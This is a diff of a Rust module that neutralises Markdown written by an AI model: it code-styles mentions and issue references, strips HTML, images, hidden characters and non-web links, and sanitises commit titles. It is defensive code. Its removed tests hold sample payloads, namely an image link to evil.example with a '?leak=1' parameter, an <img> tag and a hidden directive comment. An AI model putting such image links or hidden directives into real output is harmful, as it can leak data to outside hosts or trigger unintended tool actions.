@@ -1,43 +1,48 @@
-//! Makes Markdown by the model harmless: it notifies nobody, closes and references no other issue, loads nothing.
+//! Makes Markdown by the model harmless: it notifies nobody, closes and references no other issue, loads nothing, and
+//! links to the web and to mail only.
 
 use std::ops::Range;
 
-use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
+use domain::text::without_hidden;
+use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd, TextMergeWithOffset};
 
-/// Markdown with mentions and issue references in code style, without raw HTML and with images as their words.
+/// Markdown with mentions and issue references in code style, without raw HTML, with images and other links as their
+/// words.
 pub(crate) fn markdown(text: &str) -> String {
-    let text: String = text.chars().filter(|c| !is_invisible(*c)).collect();
+    let text = without_hidden(text);
+    let options = Options::ENABLE_TABLES
+        | Options::ENABLE_STRIKETHROUGH
+        | Options::ENABLE_FOOTNOTES
+        | Options::ENABLE_TASKLISTS;
     let mut output = Output {
         text: String::with_capacity(text.len()),
         copied: 0,
     };
-    let mut image: Option<(Range<usize>, String)> = None;
+    let mut dropped: Option<Dropped> = None;
     let mut in_code_block = false;
-    for (event, range) in
-        Parser::new_ext(&text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH).into_offset_iter()
-    {
-        match (event, image.as_mut()) {
-            (Event::End(TagEnd::Image), Some(_)) => {
-                if let Some((range, words)) = image.take() {
-                    output.replace(&text, range, &plain(&words));
+    // A backslash or an entity ends a piece of text; what is read is the whole.
+    for (event, range) in TextMergeWithOffset::new(Parser::new_ext(&text, options).into_offset_iter()) {
+        match (event, dropped.as_mut()) {
+            (Event::End(end), Some(open)) if end == open.end => {
+                if let Some(open) = dropped.take() {
+                    output.replace(&text, open.range.clone(), &open.words());
                 }
             }
-            (Event::Text(words) | Event::Code(words), Some((_, alternative))) => alternative.push_str(&words),
+            (Event::Text(words) | Event::Code(words), Some(open)) => open.text.push_str(&words),
+            (Event::SoftBreak | Event::HardBreak, Some(open)) => open.text.push(' '),
             (_, Some(_)) => {}
-            (Event::Start(Tag::Image { .. }), None) => image = Some((range, String::new())),
+            (Event::Start(Tag::Image { .. }), None) => dropped = Some(Dropped::new(range, TagEnd::Image, "")),
+            (Event::Start(Tag::Link { dest_url, .. }), None) if !may_link_to(&dest_url) => {
+                dropped = Some(Dropped::new(range, TagEnd::Link, &dest_url));
+            }
             (Event::Start(Tag::CodeBlock(_)), None) => in_code_block = true,
             (Event::End(TagEnd::CodeBlock), None) => in_code_block = false,
-            (Event::Html(_) | Event::InlineHtml(_), None) => output.replace(&text, range, ""),
+            // What stood on both sides must not become one word.
+            (Event::InlineHtml(_), None) => output.replace(&text, range, " "),
+            (Event::Html(_), None) => output.replace(&text, range, ""),
             (Event::Text(words), None) if !in_code_block => {
-                let harmless = plain(&words);
-                // An unchanged text keeps its source: escapes and entities stay what they are.
-                if harmless != *words || has_hidden_sign(&words, &text[range.clone()]) {
-                    let shown = if harmless == *words {
-                        format!("`{words}`")
-                    } else {
-                        harmless
-                    };
-                    output.replace(&text, range, &shown);
+                if needs_rewriting(&words, &text[range.clone()]) {
+                    output.replace_text(&text, range, &plain(&words));
                 }
             }
             (_, None) => {}
@@ -46,9 +51,50 @@ pub(crate) fn markdown(text: &str) -> String {
     output.finish(&text)
 }
 
-/// One run of plain text with mentions and issue references in code style.
+/// One run of plain text as Markdown that shows it, with mentions and issue references in code style.
 pub(crate) fn plain(text: &str) -> String {
     let mut output = String::with_capacity(text.len());
+    each_part(text, |part| match part {
+        Part::Reference(reference) => output.push_str(&format!("`{reference}`")),
+        Part::Other(c) => {
+            if is_special(c) {
+                output.push('\\');
+            }
+            output.push(c);
+        }
+    });
+    output
+}
+
+/// A title: one line that is read as Markdown by some and as the message of a commit by others, so mentions lose their
+/// sign, references stand in code style, and `#done` after an issue's key is no command to Jira.
+pub(crate) fn title(text: &str) -> String {
+    let text = without_hidden(text);
+    let line = text.split_whitespace().collect::<Vec<_>>().join(" ");
+    let mut output = String::with_capacity(line.len());
+    each_part(&line, |part| match part {
+        Part::Reference(reference) => match reference.strip_prefix('@') {
+            Some(name) => output.push_str(name),
+            None => output.push_str(&format!("`{reference}`")),
+        },
+        Part::Other('`') => output.push('\''),
+        Part::Other(c) => output.push(c),
+    });
+    let words = output.split(' ').map(|word| match word.strip_prefix('#') {
+        Some(command) if command.starts_with(|c: char| c.is_alphabetic()) => command,
+        _ => word,
+    });
+    words.collect::<Vec<_>>().join(" ")
+}
+
+/// A piece of a text.
+enum Part<'a> {
+    /// A mention or a reference.
+    Reference(&'a str),
+    Other(char),
+}
+
+fn each_part<'a>(text: &'a str, mut take: impl FnMut(Part<'a>)) {
     let mut rest = text;
     let mut before = None;
     while let Some(next) = rest.chars().next() {
@@ -57,19 +103,77 @@ pub(crate) fn plain(text: &str) -> String {
         } else {
             0
         };
-        if length == 0 {
-            output.push(next);
-            before = Some(next);
-            rest = &rest[next.len_utf8()..];
+        let end = if length == 0 { next.len_utf8() } else { length };
+        take(if length == 0 {
+            Part::Other(next)
         } else {
-            output.push('`');
-            output.push_str(&rest[..length]);
-            output.push('`');
-            before = rest[..length].chars().next_back();
-            rest = &rest[length..];
+            Part::Reference(&rest[..length])
+        });
+        before = rest[..end].chars().next_back();
+        rest = &rest[end..];
+    }
+}
+
+/// A link or image that only its words are left of.
+struct Dropped {
+    range: Range<usize>,
+    end: TagEnd,
+    /// Where it led.
+    address: String,
+    text: String,
+}
+
+impl Dropped {
+    fn new(range: Range<usize>, end: TagEnd, address: &str) -> Self {
+        Self {
+            range,
+            end,
+            address: address.to_owned(),
+            text: String::new(),
         }
     }
-    output
+
+    fn words(&self) -> String {
+        if self.address.is_empty() || self.address == self.text {
+            return plain(&self.text);
+        }
+        format!("{} (`{}`)", plain(&self.text), self.address.replace('`', "'"))
+    }
+}
+
+/// Whether a link may stay: to the web, to mail or within the page, and to no issue.
+fn may_link_to(address: &str) -> bool {
+    let scheme = address
+        .split_once(':')
+        .map(|(scheme, _)| scheme.to_ascii_lowercase());
+    let is_scheme = |scheme: &String| !scheme.contains(['/', '?', '#']);
+    let is_known = match scheme.filter(is_scheme).as_deref() {
+        Some(scheme) => matches!(scheme, "http" | "https" | "mailto"),
+        None => !address.starts_with("//"),
+    };
+    is_known && !is_issue(address)
+}
+
+fn is_issue(address: &str) -> bool {
+    ["/issues/", "/pull/", "/discussions/"]
+        .iter()
+        .any(|part| address.contains(part))
+}
+
+/// Text keeps its source, unless it says something to others, or a backtick of its own would end one of ours.
+fn needs_rewriting(words: &str, source: &str) -> bool {
+    let mut has_reference = false;
+    each_part(words, |part| has_reference |= matches!(part, Part::Reference(_)));
+    let is_spelled = words != source && words.contains(['@', '#']);
+    has_reference || is_spelled || words.contains('`')
+}
+
+/// Characters that mean something to Markdown within a line.
+fn is_special(c: char) -> bool {
+    matches!(
+        c,
+        '\\' | '`' | '*' | '_' | '[' | ']' | '<' | '>' | '&' | '~' | '|'
+    )
 }
 
 /// The text as it is built: untouched source between replaced ranges.
@@ -84,14 +188,18 @@ impl Output {
             return;
         }
         self.copy(source, range.start);
-        if with.starts_with('`') {
-            // A backslash would escape our backtick; the sign it was meant for stands in code now.
-            while self.text.ends_with('\\') {
-                self.text.pop();
-            }
-        }
         self.push(with);
         self.copied = range.end;
+    }
+
+    /// The same for words whose first character may stand behind a backslash, which is not part of their range.
+    fn replace_text(&mut self, source: &str, range: Range<usize>, with: &str) {
+        let escaped = range
+            .start
+            .checked_sub(1)
+            .filter(|at| source.as_bytes()[*at] == b'\\');
+        let start = escaped.filter(|at| *at >= self.copied).unwrap_or(range.start);
+        self.replace(source, start..range.end, with);
     }
 
     fn copy(&mut self, source: &str, to: usize) {
@@ -113,11 +221,6 @@ impl Output {
     }
 }
 
-/// Signs that were spelled as an entity or behind a backslash still notify people.
-fn has_hidden_sign(words: &str, source: &str) -> bool {
-    words != source && words.contains(['@', '#'])
-}
-
 fn is_boundary(c: char) -> bool {
     !(c.is_alphanumeric() || c == '_')
 }
@@ -137,10 +240,7 @@ fn reference_length(text: &str) -> usize {
         let end = text
             .find(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | ')' | ']' | '"'))
             .unwrap_or(text.len());
-        let is_issue = ["/issues/", "/pull/", "/discussions/"]
-            .iter()
-            .any(|part| text[..end].contains(part));
-        return if is_issue { end } else { 0 };
+        return if is_issue(&text[..end]) { end } else { 0 };
     }
     if text
         .get(..3)
@@ -166,80 +266,6 @@ fn is_name(c: char) -> bool {
     c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')
 }
 
-/// Characters that hide or reorder text.
-fn is_invisible(c: char) -> bool {
-    (c.is_control() && !matches!(c, '\n' | '\t'))
-        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{ad}' | '\u{e0000}'..='\u{e007f}')
-}
-
 #[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn mentions_and_references_become_code() {
-        for (given, harmless) in [
-            (
-                "Thanks @alice and @acme/core!",
-                "Thanks `@alice` and `@acme/core`!",
-            ),
-            (
-                "Fixes #12, closes acme/x#3 and GH-4.",
-                "Fixes `#12`, closes `acme/x#3` and `GH-4`.",
-            ),
-            (
-                "Resolves https://github.com/acme/x/issues/3 now",
-                "Resolves `https://github.com/acme/x/issues/3` now",
-            ),
-            ("mail a@b.example, c# and C#7", "mail a@b.example, c# and C#7"),
-            ("see https://docs.example/page", "see https://docs.example/page"),
-            ("**@alice**", "**`@alice`**"),
-            ("\\@alice", "`@alice`"),
-            ("`x`@alice", "`x` `@alice`"),
-            ("# Title\n\n- [ ] item @bob", "# Title\n\n- [ ] item `@bob`"),
-        ] {
-            assert_eq!(markdown(given), harmless, "{given}");
-        }
-    }
-
-    #[test]
-    fn a_mention_spelled_as_an_entity_does_not_survive() {
-        for given in ["&#64;alice", "&commat;alice", "fixes &#35;12"] {
-            let harmless = markdown(given);
-            assert!(!harmless.contains('&') && harmless.contains('`'), "{harmless}");
-        }
-    }
-
-    #[test]
-    fn code_keeps_its_text() {
-        let text = "Use `@decorator` and\n\n```python\n@cache\ndef f(): ...  # 12\n```\n";
-        assert_eq!(markdown(text), text);
-    }
-
-    #[test]
-    fn html_and_images_do_not_survive() {
-        assert_eq!(markdown("a <!-- hidden --> b"), "a  b");
-        assert_eq!(
-            markdown("see ![the @chart](https://evil.example/x.png?leak=1) here"),
-            "see the `@chart` here"
-        );
-        assert!(!markdown("<img src=\"https://evil.example/x\">\n\ntext").contains("evil"));
-        assert!(
-            !markdown("<details>\n<!-- journeyman:effect=x -->\n</details>").contains("journeyman:effect")
-        );
-    }
-
-    #[test]
-    fn invisible_characters_are_dropped() {
-        assert_eq!(markdown("a\u{200b}b\u{202e}c"), "abc");
-    }
-
-    #[test]
-    fn any_text_is_accepted() {
-        for text in [
-            "", "`", "![", "<", "<!--", "@", "#", "é@ü", "||||", "> > >", "\\", "```",
-        ] {
-            let _ = markdown(text);
-        }
-    }
-}
+#[path = "sanitize_tests.rs"]
+mod tests;
